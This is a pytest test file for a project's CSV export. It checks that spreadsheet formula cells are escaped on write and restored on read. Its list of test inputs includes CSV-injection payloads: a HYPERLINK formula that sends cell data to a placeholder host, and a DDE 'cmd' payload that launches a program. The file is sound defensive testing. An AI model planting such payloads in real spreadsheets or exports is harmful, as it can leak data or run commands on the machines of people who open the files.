"""Cells that a spreadsheet would run, on their way into a CSV and back."""

from __future__ import annotations

import csv
import io
import random
from pathlib import Path

import pytest
import torch

from coreg_ray.annotation.manual import read_manual
from coreg_ray.annotation.vocabulary import Vocabulary
from coreg_ray.report.review import review_csv, with_labels_kept
from coreg_ray.run.cells import neutral, restored

FORMULAS = [
    '=HYPERLINK("http://x/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\uff1d1",
    "-a.png",
    "--",
]


@pytest.mark.parametrize("cell", FORMULAS)
def test_what_would_run_is_a_text_and_is_restored(cell: str) -> None:
    assert neutral(cell) == f"'{cell}"
    assert restored(neutral(cell)) == cell
    assert restored(cell) == cell  # as older versions wrote it


@pytest.mark.parametrize(
    "cell", ["-", "-1", "+1.5", "-1e-05", "-.5", "-inf", "", "a=b", "'tis", "cat", "a/-b.png", 3, -2.5]
)
def test_numbers_a_lone_dash_and_all_else_stay(cell: object) -> None:
    assert neutral(cell) == cell


def test_every_text_comes_back() -> None:
    draws = random.Random(0)
    for _ in range(5000):
        cell = "".join(draws.choices("'=+-@\t1a.", k=draws.randrange(6)))
        written = neutral(cell)
        assert restored(written) == cell
        assert written[:1] not in tuple("=+@\t") or written in (cell, f"'{cell}")


def test_a_review_list_runs_nothing_and_is_read_as_it_was_meant(tmp_path: Path) -> None:
    ids = ["=1+1.png", "-a.png", "b.png"]
    names = ["=cat", "dog"]
    probs = torch.tensor([[[0.6, 0.4], [0.5, 0.5], [0.9, 0.1]]] * 2)
    features = torch.nn.functional.normalize(torch.rand(3, 4, generator=torch.Generator().manual_seed(0)), dim=1)
    fresh = review_csv(ids, probs, features, torch.tensor([0, 1, -1]), names, 3)
    lines = list(csv.reader(io.StringIO(fresh)))
    assert not any(cell.startswith(("=", "+", "@")) or cell[:2] == "-a" for line in lines for cell in line)
    assert {line[0] for line in lines[1:]} == {"'=1+1.png", "'-a.png", "b.png"}
    for line in lines[1:]:
        line[1] = line[2]  # the suggestion, as a person copies it
    text = io.StringIO()
    csv.writer(text).writerows(lines)
    (tmp_path / "review.csv").write_text(text.getvalue())
    found_ids, labels = read_manual(str(tmp_path / "review.csv"), Vocabulary((("=cat",), ("dog",)), ("{}",)))
    assert sorted(found_ids) == sorted(ids)
    assert len(labels.rows) == 3


def test_a_list_of_an_older_version_names_its_images_all_the_same() -> None:
    there = b"image_id,label\n=1.png,dog\n"
    assert with_labels_kept(there, "image_id,label\n'=1.png,\n") == there
